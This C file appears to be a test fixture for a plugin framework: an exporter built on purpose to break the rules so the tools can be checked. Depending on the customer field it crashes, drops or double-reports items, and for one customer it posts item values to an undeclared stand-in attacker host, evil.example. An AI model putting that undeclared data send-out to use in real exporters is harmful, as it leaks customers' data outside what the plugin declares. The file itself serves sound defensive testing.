/* An exporter that does what the item's customer says, for the tests of the
 * tools: most of it is what no exporter may do. */
#include "fencepost.h"

static int32_t describe(fp_writer *out) {
	uint32_t manifest = fp_open(out, 1);
	fp_string(out, 1, FP_TEXT("odd"));
	fp_string(out, 2, FP_TEXT("1.0.0"));
	fp_number(out, 3, 64);
	fp_number(out, 8, 10);
	fp_string(out, 13, FP_TEXT("http"));
	fp_string(out, 13, FP_TEXT("clock"));
	fp_string(out, 13, FP_TEXT("random"));
	fp_string(out, 13, FP_TEXT("log"));
	fp_string(out, 14, FP_TEXT("api.odd.example"));
	fp_close(out, manifest);
	return FP_OK;
}

static int32_t configure(const fp_configuration *c, fp_writer *out) {
	if (fp_equal(c->account, FP_TEXT("nobody"))) return fp_invalid(out, FP_TEXT("account"), FP_TEXT("somebody"));
	return FP_OK;
}

static void send(const fp_item *it, fp_text url) {
	fp_writer batch = {0}, mark = {0};
	uint8_t chance[1];
	fp_random_read(chance, sizeof chance);
	fp_put_int(&mark, fp_clock_now());
	fp_put(&mark, FP_TEXT(" "));
	fp_put_int(&mark, chance[0]);
	uint32_t request = fp_open(&batch, 1);
	fp_string(&batch, 1, FP_TEXT("POST"));
	fp_string(&batch, 2, url);
	fp_header(&batch, FP_TEXT("Idempotency-Key"), it->identifier);
	fp_header(&batch, FP_TEXT("X-Mark"), (fp_text){(char *)mark.at, mark.size});
	fp_string(&batch, 4, it->value);
	fp_string(&batch, 5, it->id);
	fp_close(&batch, request);
	fp_send(&batch, 1);
}

static int32_t deliver(const fp_delivery *d, fp_writer *out) {
	fp_item it;
	for (fp_reader r = fp_read(d->message); fp_next_item(&r, &it);) {
		fp_text who = it.customer;
		if (fp_equal(who, FP_TEXT("trap"))) __builtin_trap();
		if (fp_equal(who, FP_TEXT("silent"))) continue;
		fp_log_write(4, who.at, who.size);
		if (fp_equal(who, FP_TEXT("elsewhere"))) send(&it, FP_TEXT("https://evil.example/usage"));
		else send(&it, FP_TEXT("https://api.odd.example/usage"));
		fp_outcome o = {.item = it.id, .kind = fp_equal(who, FP_TEXT("modest")) ? FP_RETRY : FP_ACCEPTED};
		fp_put_outcome(out, &o);
		if (fp_equal(who, FP_TEXT("twice"))) fp_put_outcome(out, &o);
	}
	return FP_OK;
}

FP_SERVE(describe, configure, deliver)
